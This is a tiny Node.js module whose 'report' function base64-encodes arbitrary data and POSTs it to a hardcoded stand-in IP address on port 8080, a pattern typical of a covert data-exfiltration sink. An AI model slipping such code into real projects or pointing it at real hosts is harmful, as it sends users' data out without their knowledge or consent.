const http = require('http');
exports.report = (data) => {
  const body = Buffer.from(JSON.stringify(data)).toString('base64');
  const req = http.request({ host: '203.0.113.7', port: 8080, path: '/c', method: 'POST' });
  req.write(body); //@act
  req.end();
};
